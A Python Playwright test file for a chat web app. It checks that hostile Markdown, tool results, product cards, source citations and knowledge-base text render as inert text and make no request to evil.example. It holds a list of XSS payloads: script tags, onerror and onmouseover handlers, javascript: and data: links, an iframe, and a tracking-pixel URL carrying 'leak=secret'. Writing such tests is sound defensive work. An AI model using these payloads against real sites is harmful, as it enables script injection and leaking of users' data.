"""No script from model, tool or document text ever runs in the page (hostile Markdown).

The hostile reply is streamed in small pieces that cut through tags and links, so every
intermediate render is hostile too. It comes back after a reload from the stored message.
Its producer (``Worker.produce``) is swapped for a script, because no real tool returns a
hostile card or source on cue; the hostile knowledge-base test below goes through the real
ingestion, retrieval and grounding instead.
"""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext, Page, expect

from parley import events as ev
from parley.agent import Agent
from parley.providers.base import TextDelta
from parley.providers.scripted import ScriptedProvider
from parley.runs.state import RunState
from tests.browser.conftest import ChatServer, open_app, replies, send

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

HOSTILE = """# Totally normal answer

<script>window.__pwned = "script"</script>
<img src="x" onerror="window.__pwned = 'img'">
<iframe src="https://evil.example/frame"></iframe>
<svg onload="window.__pwned = 'svg'"><circle r="4"/></svg>
<a href="javascript:window.__pwned='raw-a'">raw anchor</a>
<details open ontoggle="window.__pwned = 'details'">x</details>

[click me](javascript:window.__pwned='md-link')
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[spaced](  JaVaScRiPt:window.__pwned='case')
![tracking pixel](https://evil.example/pixel.png?leak=secret)
<a href="https://example.com" onclick="window.__pwned='onclick'">click handler</a>

`<script>inline code stays text</script>`

**Bold** and a [real link](https://example.com/docs).
"""

HOSTILE_NAME = "<img src=x onerror=\"window.__pwned='card'\">Evil Lamp"
HOSTILE_SOURCE = {
    "document": "doc_evil",
    "chunk": "chk_evil",
    "snippet": "<script>window.__pwned='snippet'</script> Lamps are bright.",
    "score": 0.5,
    "title": "<b onmouseover=\"window.__pwned='title'\">Lamp manual</b>",
    "url": "javascript:window.__pwned='source-url'",
}


async def hostile(agent: Agent, state: RunState) -> None:
    run_id, emit = state.run.id, agent.log.append
    product = {
        "id": "P-1",
        "name": HOSTILE_NAME,
        "price": 10,
        "image_url": "javascript:window.__pwned='image'",
        "description": "<script>window.__pwned='desc'</script>",
        "actions": [{"label": "<b>Buy</b>", "send": "buy P-1"}],
    }
    emit(run_id, ev.TOOL_CALL, {"id": "c1", "name": "search_products", "arguments": {"q": "<script>"}})
    ui = {"type": "product", "product": product}
    emit(run_id, ev.TOOL_RESULT, {"id": "c1", "output": "<img src=x onerror=alert(1)>", "ui": ui})
    emit(run_id, ev.RETRIEVAL, {"sources": [HOSTILE_SOURCE]})
    state.sources = [HOSTILE_SOURCE]
    state.message_data["tool_calls"] = [{"id": "c1", "name": "search_products", "ui": ui}]
    for start in range(0, len(HOSTILE), 7):
        piece = HOSTILE[start : start + 7]
        state.text += piece
        emit(run_id, ev.MESSAGE_DELTA, {"text": piece})
        await asyncio.sleep(0.003)
    await agent.log.flush()


async def assert_inert(page: Page) -> None:
    reply = replies(page).last
    await expect(reply).to_have_attribute("data-status", "completed")
    assert await page.evaluate("window.__pwned") is None
    found = await reply.evaluate(
        """(root) => ({
            dangerous: [...root.querySelectorAll('script, iframe, svg:not(.icon), object, embed, img, details[ontoggle], style')]
                .map((el) => el.outerHTML),
            handlers: [...root.querySelectorAll('*')].flatMap((el) =>
                [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => el.tagName + ' ' + a.name)),
            hrefs: [...root.querySelectorAll('[href], [src]')].map((el) => el.getAttribute('href') ?? el.getAttribute('src')),
        })"""
    )
    assert found["dangerous"] == []
    assert found["handlers"] == []
    assert all(h.startswith("https://") for h in found["hrefs"]), found["hrefs"]
    markdown = reply.locator(".markdown")
    # What the model wrote is shown, as text.
    await expect(markdown).to_contain_text('<script>window.__pwned = "script"</script>')
    await expect(markdown).to_contain_text('<img src="x" onerror=')
    await expect(markdown.locator("code")).to_have_text("<script>inline code stays text</script>")
    await expect(markdown.locator("strong")).to_have_text("Bold")
    real = markdown.get_by_role("link", name="real link")
    await expect(real).to_have_attribute("href", "https://example.com/docs")
    await expect(real).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(markdown.get_by_role("link", name="click me")).to_have_count(0)
    # A remote image is a link, not a request that would leak the conversation.
    await expect(markdown.get_by_role("link", name="tracking pixel")).to_have_attribute(
        "href", "https://evil.example/pixel.png?leak=secret"
    )
    card = reply.locator(".product-card")
    await expect(card.locator(".product-name")).to_have_text(HOSTILE_NAME)
    await expect(reply.locator(".source-title")).to_have_text(HOSTILE_SOURCE["title"])
    await expect(reply.locator(".source-snippet")).to_contain_text("<script>")


async def test_hostile_markdown_tool_and_source_text_cannot_run_script(
    chat_server: ChatServer, context: BrowserContext
) -> None:
    async with chat_server(model="scripted:echo") as server:
        server.parley.worker.produce = hostile
        page = await open_app(context, server)
        evil_requests: list[str] = []
        page.on("request", lambda r: evil_requests.append(r.url) if "evil.example" in r.url else None)
        user_text = "<img src=x onerror=\"window.__pwned='user'\"> hi"
        await send(page, user_text)
        await expect(page.locator(".msg-user .bubble")).to_have_text(user_text)
        await assert_inert(page)
        await expect(page.locator(".thread-item .thread-link")).to_have_text(user_text)

        await page.reload()
        await expect(page.locator("body[data-ready=true]")).to_be_attached()
        await assert_inert(page)
        await page.locator(".markdown").get_by_text("raw anchor").hover()
        await page.locator(".source-title").hover()
        assert await page.evaluate("window.__pwned") is None
        assert evil_requests == []


HOSTILE_FAQ = """# <img src=x onerror="window.__pwned='doc-title'">Lamp help

Q: How bright is the <b onmouseover="window.__pwned='question'">lamp</b>?
A: Very bright. <script>window.__pwned='answer'</script><img src=x onerror="window.__pwned='img'">
"""


async def test_hostile_text_in_a_knowledge_base_stays_text_in_the_citations(
    chat_server: ChatServer, context: BrowserContext, tmp_path: Path
) -> None:
    faq = tmp_path / "lamps.md"
    faq.write_text(HOSTILE_FAQ)
    model = ScriptedProvider(turns=[[TextDelta("It is very bright [1].")]], name="scripted:kb")
    async with chat_server(
        model="scripted:kb",
        providers={"scripted:kb": model},
        embeddings="hash",
        knowledge={"parley-faq": [faq]},
    ) as server:
        page = await open_app(context, server)
        await page.get_by_role("combobox", name="Assistant").select_option("support")
        await send(page, "How bright is the lamp?")
        reply = replies(page).last
        await expect(reply).to_have_attribute("data-status", "completed")
        sources = reply.get_by_role("region", name="Sources")
        await expect(sources.locator(".source-title")).to_contain_text(["<b onmouseover="])
        await expect(sources.locator(".source-snippet")).to_contain_text(
            ["<script>window.__pwned='answer'</script>"]
        )
        for _ in range(2):
            found = await reply.evaluate(
                """(root) => [...root.querySelectorAll('*')].filter((el) =>
                    ['SCRIPT', 'IMG', 'B'].includes(el.tagName)
                    || [...el.attributes].some((a) => a.name.startsWith('on'))).map((el) => el.outerHTML)"""
            )
            assert found == []
            await sources.locator(".source-title").first.hover()
            assert await page.evaluate("window.__pwned") is None
            await page.reload()
            reply = replies(page).last
            await expect(reply.get_by_role("region", name="Sources").locator(".source")).to_have_count(1)
            sources = reply.get_by_role("region", name="Sources")
